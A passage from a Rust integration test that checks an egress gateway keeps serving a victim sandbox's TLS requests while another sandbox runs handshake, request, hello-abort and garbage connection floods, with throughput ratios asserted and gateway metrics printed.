        dir,
        dir.join("log/access.jsonl").to_str().unwrap(),
        &extra,
    );
    let pol = json!({"policy_id": "p", "rules": [
        {"id": "api", "match": {"sni": "api.example.test"}, "action": {"allow": true, "audit": "none"}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);
    put_policy(node, UNKNOWN_IP, &pol);
    let (attacker, victim_ip): (std::net::Ipv4Addr, std::net::Ipv4Addr) =
        (SANDBOX_IP.parse().unwrap(), UNKNOWN_IP.parse().unwrap());
    let to: SocketAddr = format!("{WORLD}:443").parse().unwrap();
    let name = "api.example.test";

    let mut failures = Vec::new();
    for kind in [FloodKind::Handshake, FloodKind::Request, FloodKind::HelloAbort, FloodKind::Garbage] {
        // The victim alone just before each flood: the machine's load (the suite runs other
        // tests beside this one) changes over the run, the ratio is meant to show the flood's.
        let alone = victim(&sb, &gw_ca.pem, name, victim_ip, to, &format!("/alone-{kind:?}"), window);
        assert!(alone.ok > 0 && alone.failed == 0, "the victim alone: {alone:?}");
        println!(
            "victim alone: {} requests in {window:?} ({:.0}/s), p50 {:.2} ms, p99 {:.2} ms",
            alone.ok,
            alone.ok as f64 / window.as_secs_f64(),
            alone.quantile_ms(0.5),
            alone.quantile_ms(0.99)
        );
        let f = flood(&sb, kind, name, attacker, to, loops, 2);
        std::thread::sleep(Duration::from_millis(500));
        let before = f.done.load(Ordering::SeqCst);
        let path = format!("/under-{kind:?}");
        let v = victim(&sb, &gw_ca.pem, name, victim_ip, to, &path, window);
        let flooded = f.done.load(Ordering::SeqCst) - before;
        let flood_failed = f.failed.load(Ordering::SeqCst);
        f.stop();
        println!(
            "flood {kind:?} ({loops} loops): {flooded} in the window ({:.0}/s, {flood_failed} failed); victim {} \
             requests ({:.0}/s, {:.0} % of alone, {} failed), p50 {:.2} ms, p99 {:.2} ms",
            flooded as f64 / window.as_secs_f64(),
            v.ok,
            v.ok as f64 / window.as_secs_f64(),
            100.0 * v.ok as f64 / alone.ok as f64,
            v.failed,
            v.quantile_ms(0.5),
            v.quantile_ms(0.99)
        );
        assert_eq!(v.failed, 0, "the victim's requests failed under flood {kind:?}: {:?}", v.errors);
        assert_eq!(seen.lock().unwrap().iter().filter(|r| r.path == path).count() as u64, v.ok);
        // Handshake floods: the victim keeps at least a fifth of the flood's count and of its
        // own alone, a tenth of alone when every flood connection also costs an upstream
        // handshake and a request (before R90: 1–3 % of either). Garbage costs no handshake,
        // only accepts: a tenth of alone (before R102 3–23 % at 5,000–6,000 connects/s, each
        // a task in the runtime's queue; now the sandbox's connections over 400/s are reset at
        // accept: 29–43 %).
        let handshakes = kind != FloodKind::Garbage;
        if handshakes && v.ok * 5 < flooded {
            failures.push(format!("{kind:?}: victim {} requests, flood {flooded}", v.ok));
        }
        let share = match kind {
            FloodKind::Handshake | FloodKind::HelloAbort => 5,
            FloodKind::Request => 10,
            FloodKind::Garbage => 10,
        };
        if v.ok * share < alone.ok {
            failures.push(format!("{kind:?}: victim {} requests under flood, {} alone", v.ok, alone.ok));
        }
    }
    let (_, metrics) = admin_curl(node, &["http://127.0.0.1:9091/metrics"]);
    println!(
        "gateway: {} handshakes completed, {} waited for their sandbox's turn, {} connections reset at accept (R102)",
        metric_sum(&metrics, "cube_egress_tls_handshakes_total"),
        metric_sum(&metrics, "cube_egress_tls_handshakes_waited_total"),
        metric_sum(&metrics, "cube_egress_connections_refused_total{reason=\"sandbox_rate\"}")
    );
    assert!(failures.is_empty(), "the flood starved the victim: {failures:?}");
    drop(rt);
}
